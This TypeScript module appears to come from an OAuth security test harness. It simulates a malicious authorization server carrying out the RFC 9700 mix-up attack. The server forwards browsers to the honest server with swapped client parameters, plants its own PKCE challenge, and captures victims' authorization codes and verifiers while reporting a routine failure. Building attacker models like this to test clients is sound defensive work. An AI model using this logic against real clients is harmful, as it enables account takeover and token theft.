/**
 * An authorization server that belongs to the attacker (RFC 9700 §4.4.1). Clients trust it as they trust any
 * other. It asks nobody to sign in: it sends the browser on to the honest server, and waits for the code.
 */
import { pathBelow, SERVER_METADATA, wellKnownName, wellKnownUrl } from "../../http/base";
import { type Pairs, parsePairs, queryOf, readParams, withQuery } from "../../http/form";
import {
	get,
	type HttpRequest,
	type HttpResponse,
	header,
	isGet,
	json,
	notAllowed,
	redirect,
} from "../../http/message";
import type { AttackerServer } from "../../world/attacker-memory";
import { recall } from "../../world/world";
import { SERVER_PARAMETER, serverName } from "../client/servers";
import type { Answer, Continuation, Handler, PartyContext } from "../context";

export const attackerServer: Handler = (request, at) => {
	const { server } = recall(at.world, at.lane.id, "attacker");
	if (server && wellKnownName(server.issuer, request.url) === SERVER_METADATA) return metadata(request, at);
	const path = server ? (pathBelow(server.issuer, request.url) ?? "") : "";
	const endpoint = Object.hasOwn(endpoints, path) ? endpoints[path] : undefined;
	return endpoint ? endpoint(request, at) : json(404, { error: "not_found" });
};

const endpoints: Readonly<Record<string, Handler>> = {
	"/authorize": authorize,
	"/token": token,
};

export function serverOf(at: PartyContext): AttackerServer {
	const { server } = recall(at.world, at.lane.id, "attacker");
	if (!server) throw new Error(`The attacker of "${at.lane.id}" has no server`);
	return server;
}

/** It looks like any other server's (RFC 8414 §2). */
function metadata(request: HttpRequest, at: PartyContext): HttpResponse {
	if (!isGet(request)) return notAllowed("GET");
	const { issuer } = serverOf(at);
	return json(200, {
		issuer,
		authorization_endpoint: `${issuer}/authorize`,
		token_endpoint: `${issuer}/token`,
		response_types_supported: ["code"],
		code_challenge_methods_supported: ["plain", "S256"],
		authorization_response_iss_parameter_supported: true,
	});
}

/** A public client's code can be redeemed by anybody. For a confidential one the attacker first begins a sign-in of its own. */
function authorize(request: HttpRequest, at: PartyContext): Answer | Promise<Answer> {
	if (!isGet(request)) return notAllowed("GET");
	const { authMethod, target } = serverOf(at);
	const { own } = recall(at.world, at.lane.id, "attacker");
	if (authMethod === "none" || own !== undefined) return sendOn(request.url, at);
	// The click of any user: the client's page lies beside its callback, which everybody sees.
	const begins = target.begins ?? new URL("connect", target.redirectUri).href;
	return { ask: get(withQuery(begins, [[SERVER_PARAMETER, serverName(target.issuer)]])), next: "plant" };
}

/** The attacker has a sign-in of its own at the client, whose challenge it can plant. */
const plant: Continuation = ({ request, response }, at) => {
	if (header(response.headers, "location") !== undefined) keepOwn(at, response);
	return sendOn(request.url, at);
};

export const attackerTurns = { plant } as const;

/**
 * Sends the browser on to the honest server, with the request as it came. Only the client_id, the redirect URI
 * and the API are replaced by those of the honest server; and the challenge, where the attacker has one of its own to plant.
 * @param target as which client it asks there, where that is not the one that it attacks
 */
export async function sendOn(url: string, at: PartyContext, target = serverOf(at).target): Promise<HttpResponse> {
	const { clientId, redirectUri, resource } = target;
	const { own } = recall(at.world, at.lane.id, "attacker");
	const replaced = new Map([
		["client_id", clientId],
		["redirect_uri", redirectUri],
		["resource", resource],
		...(own?.codeChallenge === undefined ? [] : [["code_challenge", own.codeChallenge] as const]),
	]);
	const sent: Pairs = queryOf(url).map(([name, value]) => [name, replaced.get(name) ?? value]);
	const { authorization_endpoint: endpoint } = await targetMetadata(at);
	return redirect(withQuery(endpoint, sent));
}

/** What the honest server tells everybody about itself (RFC 8414 §3). */
export async function targetMetadata(at: PartyContext) {
	const { target } = serverOf(at);
	const response = await at.fetch(get(wellKnownUrl(target.issuer, SERVER_METADATA)));
	return JSON.parse(response.body) as {
		readonly authorization_endpoint: string;
		readonly token_endpoint: string;
		readonly registration_endpoint?: string;
	};
}

/** Keeps what a client sends, and answers that the code is no good: an ordinary failure. */
function token(request: HttpRequest, at: PartyContext): HttpResponse {
	if (request.method !== "POST") return notAllowed("POST");
	const attacker = recall(at.world, at.lane.id, "attacker");
	const params = readParams(parsePairs(request.body));
	const [code, verifier] = [params.get("code"), params.get("code_verifier")];
	if (code !== undefined) attacker.code = code;
	if (verifier !== undefined) attacker.codeVerifier = verifier;
	return json(400, { error: "invalid_grant", error_description: "the code is not known" }, [
		["Cache-Control", "no-store"],
	]);
}

/** Reads from a client's redirect what the attacker's own sign-in there is made of. */
export function keepOwn(at: PartyContext, response: HttpResponse): void {
	const params = readParams(queryOf(header(response.headers, "location") ?? ""));
	const [state, codeChallenge] = [params.get("state"), params.get("code_challenge")];
	const codeChallengeMethod = params.get("code_challenge_method");
	recall(at.world, at.lane.id, "attacker").own = {
		cookie: header(response.headers, "set-cookie")?.split(";", 1)[0] ?? "",
		...(state === undefined ? {} : { state }),
		...(codeChallenge === undefined ? {} : { codeChallenge }),
		...(codeChallengeMethod === undefined ? {} : { codeChallengeMethod }),
	};
}
